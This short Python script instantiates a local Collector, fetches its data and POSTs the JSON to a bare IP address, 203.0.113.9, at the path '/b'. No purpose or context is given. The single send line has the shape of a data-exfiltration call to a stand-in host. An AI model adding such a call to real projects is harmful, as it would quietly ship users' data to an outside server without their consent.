import json
import urllib.request
from scripts.collector import Collector

c = Collector()
urllib.request.urlopen("http://203.0.113.9/b", data=json.dumps(c.fetch()).encode())
